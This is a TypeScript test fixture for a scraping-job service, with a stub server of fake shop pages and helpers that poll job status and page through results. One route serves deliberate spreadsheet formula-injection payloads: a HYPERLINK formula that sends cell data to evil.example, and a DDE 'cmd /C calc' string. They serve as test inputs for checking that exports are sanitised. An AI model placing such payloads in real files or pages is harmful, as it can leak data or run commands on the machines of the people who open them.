import http from 'node:http'
import { startHttp, type Fixture } from '../helpers/net-stub.ts'
import { getJson } from '../helpers/start-service.ts'

/** Pages /p/<n> with a title and description naming n; /slow/<n> answers after `slowMs`. Counts hits per path. */
export async function startPages(opts: { slowMs?: number } = {}): Promise<Fixture & { hits: Map<string, number>; down: Set<string> }> {
  const hits = new Map<string, number>()
  /** Paths that answer 500 for now. */
  const down = new Set<string>()
  const f = await startHttp((req: http.IncomingMessage, res: http.ServerResponse) => {
    const path = (req.url ?? '/').split('?')[0]
    hits.set(path, (hits.get(path) ?? 0) + 1)
    const m = /^\/(p|slow)\/(\d+)$/.exec(path)
    if (path === '/formula') {
      // A hostile merchant page: every text field starts like a spreadsheet formula.
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      res.end('<!doctype html><html lang="en"><head><title>=HYPERLINK("http://evil.example/?"&amp;A1,"Click")</title><meta name="description" content="@SUM(1+1)*cmd|\' /C calc\'!A0"></head><body><h1>-2+3</h1><p>Call +1 212 555 0100</p></body></html>')
      return
    }
    if (down.has(path)) { res.writeHead(500, { 'content-type': 'text/html' }); res.end('<title>down</title>'); return }
    if (!m) { res.writeHead(404, { 'content-type': 'text/html' }); res.end('<html><title>missing</title></html>'); return }
    const send = () => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      res.end(`<!doctype html><html lang="en"><head><title>Page ${m[2]}</title><meta name="description" content="Description of page ${m[2]}"></head><body><h1>Shop ${m[2]}</h1><p>Contact sales${m[2]}@example.com</p></body></html>`)
    }
    if (m[1] === 'slow') setTimeout(send, opts.slowMs ?? 200)
    else send()
  })
  return Object.assign(f, { hits, down })
}

/** Polls GET /v1/jobs/{id} until the job leaves queued/running. */
export async function waitForJob(base: string, id: string, headers: Record<string, string>, timeoutMs = 60_000): Promise<any> {
  const end = Date.now() + timeoutMs
  for (;;) {
    const r = await getJson(`${base}/v1/jobs/${id}`, headers)
    if (r.status !== 200) throw new Error(`status ${r.status}: ${r.text}`)
    if (!['queued', 'running'].includes(r.json.data.status)) return r.json.data
    if (Date.now() > end) throw new Error(`job ${id} still ${r.json.data.status}: ${JSON.stringify(r.json.data)}`)
    await new Promise((res) => setTimeout(res, 100))
  }
}

/** Every result through the paged JSON API. */
export async function allResults(base: string, id: string, headers: Record<string, string>, limit = 50): Promise<any[]> {
  const out: any[] = []
  let cursor: string | null = ''
  while (cursor !== null) {
    const r = await getJson(`${base}/v1/jobs/${id}/results?limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`, headers)
    if (r.status !== 200) throw new Error(`results ${r.status}: ${r.text}`)
    out.push(...r.json.data.items)
    cursor = r.json.data.next_cursor
  }
  return out
}
